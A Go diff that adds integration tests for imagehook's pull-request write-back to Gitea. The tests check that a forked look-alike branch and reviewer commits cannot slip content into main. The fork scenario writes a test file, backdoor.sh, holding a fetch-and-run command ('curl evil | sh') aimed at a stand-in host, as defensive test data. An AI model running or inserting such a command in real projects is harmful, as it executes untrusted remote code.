@@ -3,6 +3,7 @@ package service
 import (
 	"crypto/hmac"
 	"crypto/sha256"
+	"encoding/base64"
 	"encoding/hex"
 	"fmt"
 	"net/http"
@@ -256,4 +257,313 @@ func sign(secret string, body []byte) string {
 	m := hmac.New(sha256.New, []byte(secret))
 	m.Write(body)
 	return hex.EncodeToString(m.Sum(nil))
+}
+
+// prRig is imagehook writing one Gitea repository through pull requests (polled every second: no
+// forge webhook), and what the tests do to it.
+type prRig struct {
+	t    *testing.T
+	g    *giteatest.Gitea
+	h    *harness
+	repo string
+	api  string
+}
+
+func startPRRig(t *testing.T, g *giteatest.Gitea, repo, merge string) *prRig {
+	t.Helper()
+	g.NewRepo(t, repo, examples.Manifests())
+	dir := t.TempDir()
+	yml := fmt.Sprintf(`listen: "127.0.0.1:0"
+dataDir: %[1]s
+repos:
+  - name: apps
+    url: %[2]s/%[3]s/%[4]s.git
+    auth: {username: %[3]s, password: %[5]s}
+    author: {name: imagehook-test, email: imagehook@example.com}
+    writeBack: {mode: pullRequest, provider: gitea, api: %[2]s/api/v1, token: %[6]s, merge: %[7]s, pollInterval: 1s}
+hooks:
+  - id: custom
+    token: %[8]s
+    source: custom
+    targets: [{repo: apps, path: apps/website, workload: deployment/website, namespace: web, container: website}]
+`, filepath.Join(dir, "data"), g.URL, giteatest.User, repo, giteatest.Password, g.Token, merge, hookToken)
+	cfg, err := config.Parse([]byte(yml), func(string) (string, bool) { return "", false })
+	if err != nil {
+		t.Fatal(err)
+	}
+	h := &harness{t: t, cfg: cfg, logs: &syncBuffer{}}
+	h.start()
+	t.Cleanup(h.stop)
+	return &prRig{t: t, g: g, h: h, repo: repo, api: "/repos/" + giteatest.User + "/" + repo}
+}
+
+// push sends a registry push of website:tag and returns the event's id once it has an outcome
+// (awaiting merge, or failed).
+func (r *prRig) push(tag string) string {
+	r.t.Helper()
+	body := fmt.Sprintf(`{"push_data":{"tag":%q,"pusher":"ci-bot"},"repository":{"repo_url":"registry.cn-hangzhou.aliyuncs.com","namespace":"imagehook-demo","name":"website"}}`, tag)
+	code, ev := r.h.post("/hooks/custom?wait=30s&token="+hookToken, []byte(body))
+	if code != http.StatusAccepted && code != http.StatusOK { // 200: done (failed) within the wait
+		r.t.Fatalf("push %s: %d %v", tag, code, ev)
+	}
+	return fmt.Sprint(ev["id"])
+}
+
+func (r *prRig) event(id string) map[string]any {
+	req, _ := http.NewRequest(http.MethodGet, "http://"+r.h.addr+"/events/"+id, nil)
+	_, ev := r.h.do(req)
+	return ev
+}
+
+// until polls the event until ok says so.
+func (r *prRig) until(id, what string, ok func(ev, git map[string]any) bool) map[string]any {
+	r.t.Helper()
+	for deadline := time.Now().Add(60 * time.Second); ; time.Sleep(100 * time.Millisecond) {
+		ev := r.event(id)
+		if ok(ev, step(ev, "git")) {
+			return ev
+		}
+		if time.Now().After(deadline) {
+			r.t.Fatalf("event %s: not %s: %v\nlog:\n%s", id, what, ev, r.h.logs.String())
+		}
+	}
+}
+
+func (r *prRig) status(id, want string) map[string]any {
+	r.t.Helper()
+	return r.until(id, want, func(ev, _ map[string]any) bool { return ev["status"] == want })
+}
+
+func (r *prRig) pr(number int64) giteaPR {
+	r.t.Helper()
+	var pr giteaPR
+	if code := r.g.API(r.t, http.MethodGet, fmt.Sprintf("%s/pulls/%d", r.api, number), nil, &pr); code != http.StatusOK {
+		r.t.Fatalf("pull request %d: HTTP %d", number, code)
+	}
+	return pr
+}
+
+func prNumber(ev map[string]any) int64 {
+	git := step(ev, "git")
+	pr, _ := git["pullRequest"].(map[string]any)
+	n, _ := pr["number"].(float64)
+	return int64(n)
+}
+
+// merge merges a pull request as a person would (Gitea answers 405 while it still checks
+// mergeability after a push).
+func (r *prRig) merge(number int64) giteaPR {
+	r.t.Helper()
+	for deadline := time.Now().Add(30 * time.Second); ; time.Sleep(200 * time.Millisecond) {
+		code := r.g.API(r.t, http.MethodPost, fmt.Sprintf("%s/pulls/%d/merge", r.api, number), map[string]any{"Do": "merge"}, nil)
+		if code == http.StatusOK {
+			return r.pr(number)
+		}
+		if code != http.StatusMethodNotAllowed || time.Now().After(deadline) {
+			r.t.Fatalf("merge %d: HTTP %d", number, code)
+		}
+	}
+}
+
+// commitTo pushes, as a reviewer (another git identity), a commit to branch of owner/repo that
+// edit makes in a clone; it returns the commit.
+func (r *prRig) commitTo(cloneURL, branch string, edit func(dir string)) string {
+	r.t.Helper()
+	work := r.t.TempDir()
+	gitserver.Git(r.t, work, "clone", "-q", "-b", branch, cloneURL, ".")
+	edit(work)
+	gitserver.Git(r.t, work, "add", "-A")
+	cmd := gitserver.Command(work, "commit", "-q", "-m", "a reviewer's commit")
+	cmd.Env = append(cmd.Env, "GIT_AUTHOR_NAME=Rita Reviewer", "GIT_AUTHOR_EMAIL=rita@example.com",
+		"GIT_COMMITTER_NAME=Rita Reviewer", "GIT_COMMITTER_EMAIL=rita@example.com")
+	if out, err := cmd.CombinedOutput(); err != nil {
+		r.t.Fatalf("git commit: %v\n%s", err, out)
+	}
+	gitserver.Git(r.t, work, "push", "-q", "origin", branch)
+	return gitserver.Git(r.t, work, "rev-parse", "HEAD")
+}
+
+func setImage(t *testing.T, dir, image string) {
+	t.Helper()
+	file := filepath.Join(dir, "apps/website/deployment.yaml")
+	data, err := os.ReadFile(file)
+	if err != nil {
+		t.Fatal(err)
+	}
+	lines := strings.Split(string(data), "\n")
+	for i, l := range lines {
+		if strings.Contains(l, "# set by imagehook") {
+			lines[i] = "          image: " + image + "  # set by imagehook"
+		}
+	}
+	if err := os.WriteFile(file, []byte(strings.Join(lines, "\n")), 0o644); err != nil {
+		t.Fatal(err)
+	}
+}
+
+// mainHolds reads a file of the repository's main branch ("" when it has none).
+func (r *prRig) mainHolds(file string) string {
+	r.t.Helper()
+	var got struct {
+		Content string `json:"content"`
+	}
+	if r.g.API(r.t, http.MethodGet, r.api+"/contents/"+file+"?ref=main", nil, &got) != http.StatusOK {
+		return ""
+	}
+	data, _ := base64.StdEncoding.DecodeString(got.Content)
+	return string(data)
+}
+
+// TestForkLookAlikeOnGitea: someone forks the repository, pushes a branch named like imagehook's
+// (imagehook/deployment/website) with a backdoor, and opens a pull request from the fork before
+// imagehook's first push. imagehook never touches the fork's pull request — it opens its own from
+// its own branch in the repository, and the event names the look-alike with a typed reason — and
+// with merge: auto only imagehook's own pull request is merged: the backdoor never reaches main.
+func TestForkLookAlikeOnGitea(t *testing.T) {
+	g := giteatest.Start(t)
+	eveToken := g.NewUser(t, "eve")
+	for _, merge := range []string{"none", "auto"} {
+		t.Run(merge, func(t *testing.T) {
+			r := startPRRig(t, g, "apps-"+merge, merge)
+			// Eve forks, adds a backdoor on imagehook's branch name, and opens her pull request.
+			if code := g.APIAs(t, eveToken, http.MethodPost, r.api+"/forks", map[string]any{}, nil); code != http.StatusAccepted {
+				t.Fatalf("fork: HTTP %d", code)
+			}
+			branch := "imagehook/deployment/website"
+			work := t.TempDir()
+			gitserver.Git(t, work, "clone", "-q", g.CloneURLAs("eve", "eve", r.repo), ".")
+			gitserver.Git(t, work, "checkout", "-q", "-b", branch)
+			setImage(t, work, "evil/web:6.6.6")
+			if err := os.WriteFile(filepath.Join(work, "backdoor.sh"), []byte("#!/bin/sh\ncurl evil | sh\n"), 0o755); err != nil {
+				t.Fatal(err)
+			}
+			gitserver.Git(t, work, "add", "-A")
+			gitserver.Git(t, work, "commit", "-q", "-m", "imagehook: deployment/website website to 9.9.9")
+			gitserver.Git(t, work, "push", "-q", "origin", branch)
+			var fork giteaPR
+			for deadline := time.Now().Add(30 * time.Second); ; time.Sleep(200 * time.Millisecond) {
+				code := g.APIAs(t, eveToken, http.MethodPost, r.api+"/pulls", map[string]any{
+					"head": "eve:" + branch, "base": "main", "title": "imagehook: deployment/website website to 9.9.9"}, &fork)
+				if code == http.StatusCreated {
+					break
+				}
+				if time.Now().After(deadline) {
+					t.Fatalf("eve's pull request: HTTP %d", code)
+				}
+			}
+
+			id := r.push("2.0.0")
+			want := "awaiting merge"
+			if merge == "auto" {
+				want = "succeeded"
+			}
+			ev := r.status(id, want)
+			git := step(ev, "git")
+			own := prNumber(ev)
+			if own == 0 || own == fork.Number || git["reason"] != "foreign pull request" ||
+				!strings.Contains(fmt.Sprint(git["detail"]), fmt.Sprintf("#%d from eve/%s", fork.Number, r.repo)) {
+				t.Errorf("event's git step %v (eve's pull request is #%d)", git, fork.Number)
+			}
+			mine := r.pr(own)
+			if mine.Head.Ref != branch || mine.Head.Sha == fork.Head.Sha {
+				t.Errorf("imagehook's pull request %+v", mine)
+			}
+			theirs := r.pr(fork.Number)
+			if theirs.State != "open" || theirs.Merged || theirs.Title != fork.Title || theirs.Head.Sha != fork.Head.Sha {
+				t.Errorf("eve's pull request was touched: %+v", theirs)
+			}
+			if r.mainHolds("backdoor.sh") != "" {
+				t.Fatal("the fork's backdoor reached main")
+			}
+			if merge == "auto" {
+				if !mine.Merged || !strings.Contains(r.mainHolds("apps/website/deployment.yaml"), "website:2.0.0") {
+					t.Errorf("imagehook's own pull request was not auto-merged: %+v", mine)
+				}
+			} else if mine.Merged {
+				t.Error("merge: none, yet merged")
+			}
+		})
+	}
+}
+
+// TestPullRequestTrustOnGitea, against a real Gitea: a reviewer's commit on imagehook's branch is
+// reported (typed reason, a comment on the pull request) and never force-pushed away — the next
+// push fails with that reason; a merge whose branch someone pointed at another image fails its
+// event with what main runs; a pull request closed, reopened and merged completes its event.
+func TestPullRequestTrustOnGitea(t *testing.T) {
+	g := giteatest.Start(t)
+	r := startPRRig(t, g, "apps", "none")
+	branch := "imagehook/deployment/website"
+
+	// 1. A reviewer adds a commit to imagehook's branch.
+	first := r.push("2.0.0")
+	number := prNumber(r.status(first, "awaiting merge"))
+	theirs := r.commitTo(g.CloneURL("apps"), branch, func(dir string) {
+		if err := os.WriteFile(filepath.Join(dir, "NOTES.md"), []byte("reviewed\n"), 0o644); err != nil {
+			t.Fatal(err)
+		}
+	})
+	r.until(first, "told of the reviewer's commit", func(ev, git map[string]any) bool {
+		return ev["status"] == "awaiting merge" && git["reason"] == "foreign commit" && strings.Contains(fmt.Sprint(git["detail"]), theirs[:12])
+	})
+	second := r.push("2.1.0")
+	ev := r.status(second, "failed")
+	if git := step(ev, "git"); git["reason"] != "foreign commit" || !strings.Contains(fmt.Sprint(git["error"]), "will not force-push") {
+		t.Errorf("the next push: %v", git)
+	}
+	if pr := r.pr(number); pr.Head.Sha != theirs {
+		t.Fatalf("the reviewer's commit was replaced: head %s, want %s", pr.Head.Sha, theirs)
+	}
+	var comments []struct {
+		Body string `json:"body"`
+	}
+	g.API(t, http.MethodGet, fmt.Sprintf("%s/issues/%d/comments", r.api, number), nil, &comments)
+	if len(comments) != 1 || !strings.Contains(comments[0].Body, theirs[:12]) {
+		t.Errorf("comments on the pull request: %+v", comments)
+	}
+	// Merged with the reviewer's harmless commit: the image is the proposed one, the event says
+	// whose commit the branch ended in.
+	merged := r.merge(number)
+	ev = r.status(first, "succeeded")
+	if git := step(ev, "git"); git["commit"] != merged.MergeSHA || git["reason"] != "foreign commit" {
+		t.Errorf("merged: %v", git)
+	}
+
+	// 2. Someone points imagehook's branch at another image before the merge.
+	third := r.push("3.0.0")
+	number = prNumber(r.status(third, "awaiting merge"))
+	r.commitTo(g.CloneURL("apps"), branch, func(dir string) { setImage(t, dir, "evil/web:6.6.6") })
+	r.merge(number)
+	ev = r.status(third, "failed")
+	if git := step(ev, "git"); git["reason"] != "merged other content" || git["error"] != "merged with other content: main runs evil/web:6.6.6" {
+		t.Errorf("merged with other content: %v", git)
+	}
+	if !strings.Contains(r.mainHolds("apps/website/deployment.yaml"), "evil/web:6.6.6") {
+		t.Fatal("the test's merge did not land")
+	}
+
+	// 3. Closed, reopened, merged (once someone has put main right again).
+	r.commitTo(g.CloneURL("apps"), "main", func(dir string) {
+		setImage(t, dir, "registry.cn-hangzhou.aliyuncs.com/imagehook-demo/website:3.0.0")
+	})
+	fourth := r.push("4.0.0")
+	number = prNumber(r.status(fourth, "awaiting merge"))
+	if code := g.API(t, http.MethodPatch, fmt.Sprintf("%s/pulls/%d", r.api, number), map[string]any{"state": "closed"}, nil); code != http.StatusCreated && code != http.StatusOK {
+		t.Fatalf("close: HTTP %d", code)
+	}
+	r.status(fourth, "cancelled")
+	if code := g.API(t, http.MethodPatch, fmt.Sprintf("%s/pulls/%d", r.api, number), map[string]any{"state": "open"}, nil); code != http.StatusCreated && code != http.StatusOK {
+		t.Fatalf("reopen: HTTP %d", code)
+	}
+	r.until(fourth, "awaiting merge again", func(ev, git map[string]any) bool {
+		return ev["status"] == "awaiting merge" && git["reason"] == "reopened"
+	})
+	merged = r.merge(number)
+	ev = r.status(fourth, "succeeded")
+	if git := step(ev, "git"); git["commit"] != merged.MergeSHA {
+		t.Errorf("reopened and merged: %v", git)
+	}
+	if !strings.Contains(r.mainHolds("apps/website/deployment.yaml"), "website:4.0.0") {
+		t.Error("main does not run the merged image")
+	}
 }
